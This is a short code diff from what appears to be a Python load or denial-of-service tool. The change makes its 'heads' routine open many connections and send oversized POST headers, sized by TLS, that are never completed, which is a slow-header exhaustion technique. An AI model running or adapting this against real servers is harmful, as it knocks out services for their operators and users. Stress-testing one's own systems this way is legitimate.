@@ -75,8 +75,9 @@ async def silent(target: Target) -> None:
 
 
 async def heads(target: Target) -> None:
-    """Begin heads and do not end them."""
-    await many(target, lambda one: _pour(one, POST + b"x: " + b"y" * 50_000, b""), target.connections)
+    """Begin heads as long as they may be, and do not end them."""
+    begun = POST + b"x: " + b"y" * (31_000 if target.tls else 62_000)
+    await many(target, lambda one: _pour(one, begun, b""), target.connections)
 
 
 async def bodies(target: Target) -> None:
